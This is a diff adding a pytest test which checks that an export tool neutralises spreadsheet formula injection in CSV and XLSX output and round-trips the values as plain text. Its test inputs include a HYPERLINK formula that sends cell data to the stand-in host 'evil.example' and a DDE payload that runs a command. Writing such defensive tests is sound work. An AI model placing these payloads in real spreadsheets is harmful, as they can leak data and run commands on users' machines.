@@ -154,3 +154,33 @@ def test_a_second_file_with_the_same_name_is_refused_not_merged(ws: Workspace, t
     assert result.exit_code == 3
     assert "already belongs to" in result.stderr
     assert ws.revisions.latest_text(ws.documents.pages("import:test/0002")[0].id).text == "Antwort A"
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Klick") Die Reformation begann 1517.',
+            "=cmd|' /C calc'!A0 Die Reformation begann 1517.", "+1+1 Die Reformation begann 1517.",
+            "-1 Die Reformation begann 1517.", "@SUM(A1) Die Reformation begann 1517.",
+            "'=1+1 Die Reformation begann 1517.", "''@x Die Reformation begann 1517.", "'plain Die Reformation begann 1517."]
+
+
+def test_formula_characters_are_never_live_in_sheets_and_round_trip(ws: Workspace, tmp_path: Path, cli) -> None:
+    from openpyxl import load_workbook
+
+    from export.formats import csv_bytes, xlsx_bytes
+
+    rows = [{"document_id": "=HYPERLINK(\"x\")/0001", "revision": 1, "prompt": p, "completion": "\t=1+1"} for p in FORMULAS]
+    sheet = load_workbook(__import__("io").BytesIO(xlsx_bytes(rows))).active
+    assert {c.data_type for row in sheet.iter_rows() for c in row} == {"s"}
+    assert [c.value for c in sheet["C"][1:]] == FORMULAS
+    cells = [cell for line in csv_bytes(rows).decode().splitlines()[1:] for cell in line.split(",")]
+    assert not [c for c in cells if c.lstrip('"')[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+    source = tmp_path / "evil.xlsx"  # xlsx: cells exactly as written (a CSV's leading ' is read as a quote)
+    source.write_bytes(xlsx_bytes([{"prompt": p, "completion": LOOSE_TEXT} for p in FORMULAS]))
+    assert cli("export", "import", source, "--workspace", ws.root).exit_code == 0
+    for name in ("a.csv", "a.xlsx"):
+        assert cli("export", name.split(".")[1], tmp_path / name, "--workspace", ws.root).exit_code == 0
+        other = tmp_path / f"ws-{name}"
+        assert cli("export", "import", tmp_path / name, "--workspace", other).exit_code == 0
+        again = tmp_path / f"again-{name}"
+        assert cli("export", name.split(".")[1], again, "--workspace", other).exit_code == 0
+        assert sorted(r["prompt"] for r in read_table(again).rows) == sorted(FORMULAS), name
